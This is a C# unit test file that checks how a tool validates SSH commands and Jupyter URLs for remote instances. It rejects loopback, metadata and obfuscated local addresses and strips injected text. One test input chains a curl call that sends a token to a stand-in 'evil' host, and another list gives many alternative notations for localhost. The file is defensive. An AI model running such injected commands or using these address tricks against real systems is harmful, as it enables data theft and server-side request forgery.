using System;
using PulseRun.Core.Ssh;
using Xunit;

namespace PulseRun.Core.Tests.Ssh;

public class RemoteAccessTests
{
    private static Instance Make(string? status, string? text) => new() { Id = "inst_1", Status = status, SshCommand = text is null ? null : "ssh root@" + text, JupyterUrl = text is null ? null : "https://" + text + "/" };

    [Theory]
    [InlineData("running")]
    [InlineData("Running")]
    public void Running_WithAddresses_IsReachable(string status)
    {
        Instance instance = Make(status, "h");
        Assert.True(RemoteAccess.HasSsh(instance));
        Assert.True(RemoteAccess.HasJupyter(instance));
        Assert.Equal("h", RemoteAccess.Ssh(instance, allowsLocal: false).Host);
        Assert.Equal("https://h/", RemoteAccess.Jupyter(instance, allowsLocal: false).Display);
    }

    [Theory]
    [InlineData("running", null, "yet")]
    [InlineData("provisioning", null, "is provisioning")]
    [InlineData("stopped", null, "is stopped")]
    [InlineData("stopping", "h", "is stopping")]
    [InlineData("some\u001b[2Jthing", "h", "is some [2Jthing")]
    [InlineData(null, "h", "unknown state")]
    [InlineData("", "h", "unknown state")]
    public void Unreachable_IsAConflict_ThatNamesWaitInstance(string? status, string? text, string part)
    {
        Instance instance = Make(status, text);
        Assert.False(RemoteAccess.HasSsh(instance));
        Assert.False(RemoteAccess.HasJupyter(instance));
        foreach (var error in new[] { Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false)), Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)) })
        {
            Assert.Equal(ErrorIds.Conflict, error.ErrorId);
            Assert.Contains("Wait-PRInstance", error.Message, StringComparison.Ordinal);
            Assert.Contains(part, error.Message, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Running_WithAHostileText_IsRefused()
    {
        Instance instance = Make("running", "h\n");
        Assert.Equal(ErrorIds.InvalidSshCommand, Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false)).ErrorId);
        Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)).ErrorId);
    }

    [Fact]
    public void Null_HasNeither() => Assert.False(RemoteAccess.HasSsh(null) || RemoteAccess.HasJupyter(null));

    [Theory]
    [InlineData("127.0.0.1")]
    [InlineData("127.255.255.254")]
    [InlineData("0.0.0.0")]
    [InlineData("169.254.169.254")]
    [InlineData("224.0.0.1")]
    [InlineData("localhost")]
    [InlineData("LocalHost")]
    [InlineData("x.localhost")]
    [InlineData("ip6-localhost")]
    [InlineData("[::1]")]
    [InlineData("[::]")]
    [InlineData("[::ffff:127.0.0.1]")]
    [InlineData("[fe80::1]")]
    [InlineData("[ff02::1]")]
    public void RemoteServer_CannotNameThisMachine(string host)
    {
        Instance instance = Make("running", host);
        PulseRunException ssh = Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false));
        Assert.Equal(ErrorIds.InvalidSshCommand, ssh.ErrorId);
        Assert.Contains("inst_1", ssh.Message, StringComparison.Ordinal);
        Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)).ErrorId);

        Assert.Equal(host.Trim('[', ']'), RemoteAccess.Ssh(instance, allowsLocal: true).Host);
        Assert.NotNull(RemoteAccess.Jupyter(instance, allowsLocal: true));
    }

    // The ssh grammar rejects these notations, but a browser accepts them all.
    [Theory]
    [InlineData("127.1")]
    [InlineData("0x7f000001")]
    [InlineData("0x7f.1")]
    [InlineData("0177.0.0.1")]
    [InlineData("2130706433")]
    [InlineData("017700000001")]
    [InlineData("localhost.")]
    [InlineData("127.0.0.1.")]
    [InlineData("0")]
    [InlineData("[0:0:0:0:0:ffff:7f00:1]")]
    [InlineData("[::127.0.0.1]")]
    [InlineData("[64:ff9b::7f00:1]")]
    [InlineData("[2002:7f00:1::]")]
    [InlineData("[fe80::1%25eth0]")]
    public void RemoteServer_CannotNameThisMachine_InAnyNotation(string host)
    {
        Instance instance = Make("running", host);
        Assert.Equal(ErrorIds.InvalidJupyterUrl, Assert.Throws<PulseRunException>(() => RemoteAccess.Jupyter(instance, allowsLocal: false)).ErrorId);
        Assert.Equal(ErrorIds.InvalidSshCommand, Assert.Throws<PulseRunException>(() => RemoteAccess.Ssh(instance, allowsLocal: false)).ErrorId);
    }

    [Theory]
    [InlineData("ssh -p 22 root@h; curl https://evil/?token=s3cret")]
    [InlineData("ssh s3cret")]
    public void RejectedCommand_IsNotQuoted(string command)
    {
        PulseRunException error = Assert.Throws<PulseRunException>(() => SshCommandLine.Parse(command, "inst_1"));
        Assert.Equal(ErrorIds.InvalidSshCommand, error.ErrorId);
        Assert.DoesNotContain("s3cret", error.Message, StringComparison.Ordinal);
    }
}
